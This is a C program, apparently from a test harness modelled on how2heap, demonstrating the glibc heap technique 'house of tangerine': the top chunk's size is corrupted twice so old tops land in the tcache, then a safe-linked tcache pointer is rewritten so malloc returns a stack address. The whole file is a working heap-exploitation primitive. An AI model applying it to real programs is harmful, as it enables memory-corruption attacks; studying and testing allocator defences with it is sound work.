/* Technique: house of tangerine (how2heap house_of_tangerine): house of
   orange's top-size corruption used twice to put chunks into the tcache
   without calling free, then tcache poisoning.

   Goal: malloc returns a chosen address (a 16-byte aligned stack
   buffer).

   How: twice, the top chunk is arranged to start 0x80 below a page
   boundary, an overflow from the chunk below it sets the top size to
   0x81, and malloc (0x200) makes sysmalloc move to fresh memory and
   free the old top, now a 0x60 chunk, into the tcache.  The second old
   top heads the 0x60 tcache bin; the overflow from the chunk below it
   rewrites its next pointer (safe-linked) to the target, and the
   second malloc (0x58) returns the target.  */
#include "attack.h"

static size_t *
shrink_top_and_free (void)
{
  size_t *p = (size_t *) place_before_top (0x80, 0x18);
  if (!p)
    no_effect ("could not arrange the heap");
  size_t *top = CHUNK (p) + 4;
  say ("p %p top chunk %p (size %#zx)", p, top, top[1]);
  if (top[1] < 0x80 + 0x1000)
    no_effect ("the top chunk is too small to shrink (%#zx)", top[1]);
  p[3] = 0x80 | PREV_INUSE;		/* the overflow: top's size */
  void *big = malloc (0x200);
  say ("malloc (0x200) = %p", big);
  return p;
}

int
main (void)
{
  attack_init ("house_of_tangerine: top size shrunk twice, old tops freed into the tcache, tcache poisoning");
  _Alignas (16) size_t target[8] = { 0 };
  say ("target %p", target);
  shrink_top_and_free ();
  size_t *p = shrink_top_and_free ();
  /* The overflow from p into the freed old top: its tcache next.  */
  p[4] = PROTECT_PTR (&p[4], target);
  void *x = malloc (0x58);
  void *y = malloc (0x58);
  say ("malloc (0x58) = %p, then %p", x, y);
  if (y == (void *) target)
    reached ("malloc returned the stack target %p", y);
  no_effect ("malloc returned %p and %p, not the target %p", x, y, target);
}
